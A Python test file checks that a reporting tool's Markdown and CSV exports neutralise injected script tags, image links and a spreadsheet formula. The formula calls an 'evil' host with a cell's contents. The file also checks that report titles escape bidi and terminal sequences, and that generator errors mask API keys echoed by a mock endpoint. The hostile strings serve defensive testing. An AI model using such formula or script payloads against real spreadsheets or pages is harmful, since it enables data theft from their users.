"""Exports, report titles and generator errors against hostile names and a hostile endpoint:
nothing runs in a Markdown viewer or a spreadsheet, and no secret is shown or stored."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import date

import pytest
from markdown_it import MarkdownIt

from analysis.insight.cards import Card
from analysis.report.markdown import section_markdown
from analysis.report.sections import Section
from analysis.suggestions.generators import ChatCompletionsGenerator, GenerationOptions
from analysis.suggestions.plays import SuggestOptions
from analysis.suggestions.review import export_approved, review_suggestion, save_suggestions
from analysis.suggestions.writer import suggest_for_cards
from loaders import store
from loaders.errors import GeneratorError
from tests.conftest import QuietHandler, served

KEY = "sk-live-0123456789abcdef"
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
SCRIPT = "<script>alert(1)</script>"
PIXEL = "![px](http://host/p.png)"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'


def hostile_card() -> Card:
    """A campaign card whose campaign and brand names carry HTML, an image and a formula."""
    campaign = f"Summer {SCRIPT} {PIXEL}"
    return Card(
        "campaign_backfire",
        f"{campaign} backfired: 40 posts, 80% negative.",
        10.0,
        {"campaign": campaign, "brand": f"Tide{SCRIPT}", "posts": 40, "share_negative": 0.8},
    )


@pytest.fixture
def approved(settings):
    """Two approved suggestions of the hostile card; one edited to a formula."""
    options = SuggestOptions(formats=("social_post", "ad_headline"), variants=1, rounds=1)
    results = suggest_for_cards([hostile_card()], None, options, [], brand=f"Tide{SCRIPT}")
    with store.session(settings=settings) as con:
        ids = save_suggestions(
            con, results, date(2025, 10, 6), date(2025, 10, 12), options, "template"
        )
        review_suggestion(con, ids[0], status="approved", edited_text=FORMULA)
        review_suggestion(con, ids[1], status="approved", edited_text=f"-1+1 {SCRIPT}")
        con.execute(  # a row stored before the fix: a URL with credentials as the generator
            "UPDATE suggestions SET generator = ? WHERE id = ?",
            [f"m at https://me:pw@host/v1?api_key={KEY}", ids[1]],
        )
    return settings


def test_markdown_export_renders_no_script_image_or_link(approved):
    with store.session(settings=approved, read_only=True) as con:
        markdown = export_approved(con, "markdown")
    html = RENDERER.render(markdown)
    assert "<script" not in html and "<img" not in html and "<a " not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    assert "![px](http://host/p.png)" in html
    assert "<li><strong>ad headline</strong>: -1+1 &lt;script&gt;" in html


def test_csv_export_neutralises_formulas_and_hides_credentials(approved):
    with store.session(settings=approved, read_only=True) as con:
        table = list(csv.DictReader(io.StringIO(export_approved(con, "csv"))))
    texts = sorted(row["text"] for row in table)
    assert texts == sorted(["'" + FORMULA, f"'-1+1 {SCRIPT}"])
    assert [row["brand"] for row in table] == [f"Tide{SCRIPT}"] * 2  # no prefix: not a formula
    generators = sorted(row["generator"] for row in table)
    assert generators == ["m at https://host/v1?api_key=••••", "template"]


def test_report_titles_show_bidi_and_escape_sequences():
    title = "Weekly report for Tide\u202ellew\x1b[2J: 2025-W41"
    markdown = section_markdown(Section(title, []), top=True)
    assert markdown == "# Weekly report for Tide&lt;U+202E&gt;llew\\\\x1b\\[2J: 2025-W41\n"
    assert "\u202e" not in markdown and "\x1b" not in markdown
    html = RENDERER.render(markdown)  # what a reader sees
    assert html == "<h1>Weekly report for Tide&lt;U+202E&gt;llew\\x1b[2J: 2025-W41</h1>\n"


# --- an endpoint that echoes what it was sent ---------------------------------------------------
class EchoingHandler(QuietHandler):
    """Answers 401 with the request's Authorization header in the body, as some proxies do."""

    seen: list[str] = []

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        auth = self.headers.get("Authorization", "")
        EchoingHandler.seen.append(auth)
        if self.path.endswith("/plain/chat/completions"):
            body = f"Unauthorized.\nReceived Authorization: {auth}\n".encode()
        else:
            body = json.dumps({"error": {"message": f"Invalid key. You sent: {auth}"}}).encode()
        self.reply(401, body)


def error_of(generator: ChatCompletionsGenerator) -> str:
    """The message of the GeneratorError that one generate call raises."""
    with pytest.raises(GeneratorError) as raised:
        generator.generate("s", "p", GenerationOptions())
    return str(raised.value)


echo_server = served(EchoingHandler)


@pytest.mark.parametrize("path", ["v1", "plain"])
def test_a_401_echoing_the_key_gives_a_one_line_error_without_it(echo_server, path):
    message = error_of(ChatCompletionsGenerator(f"http://{echo_server}/{path}", "m", api_key=KEY))
    assert EchoingHandler.seen[-1] == f"Bearer {KEY}"  # the key was sent, and echoed
    assert KEY not in message and "0123456789" not in message and "\n" not in message
    assert f"http://{echo_server}/{path}/chat/completions answered HTTP 401" in message


def test_credentials_in_the_base_url_are_sent_but_never_shown(echo_server):
    generator = ChatCompletionsGenerator(f"http://me:pa55word@{echo_server}/v1?api_key={KEY}", "m")
    assert generator.name == f"m at http://{echo_server}/v1?api_key=••••"
    message = error_of(generator)
    assert EchoingHandler.seen[-1] == "Basic " + base64.b64encode(b"me:pa55word").decode()
    assert "pa55word" not in message and KEY not in message
    assert "bWU6cGE1NXdvcmQ" not in message  # nor the Basic token that encodes them
    assert message.startswith(f"http://{echo_server}/v1/chat/completions?api_key=••••")


# --- an endpoint whose long error body cuts the echoed key, or shows only its start -----------
PLAIN_KEY = "abcd1234efgh5678ijkl"  # no sk- prefix: only the given secret marks it


class CuttingHandler(QuietHandler):
    """Answers 401 with the key echoed at the 200-character cut (/cut) or half shown (/half)."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        token = self.headers.get("Authorization", "").split()[-1]
        if self.path.startswith("/cut/"):
            message = "x" * 180 + " provided: " + token  # the key starts at character 192
        else:
            message = f"Incorrect API key provided: {token[:10]}**********{token[-4:]}."
        self.reply(401, json.dumps({"error": {"message": message}}).encode())


cutting_server = served(CuttingHandler)


@pytest.mark.parametrize("path", ["cut", "half"])
def test_a_key_cut_or_half_shown_in_the_error_body_is_masked(cutting_server, path):
    generator = ChatCompletionsGenerator(f"http://{cutting_server}/{path}", "m", api_key=PLAIN_KEY)
    message = error_of(generator)
    assert PLAIN_KEY[:6] not in message, message
    assert "provided: ••••" in message and "\n" not in message
    if path == "cut":  # still cut to 200 characters of detail, after masking
        detail = message.split("answered HTTP 401: ")[1].split(". Fix:")[0]
        assert detail == "x" * 180 + " provided: ••••"
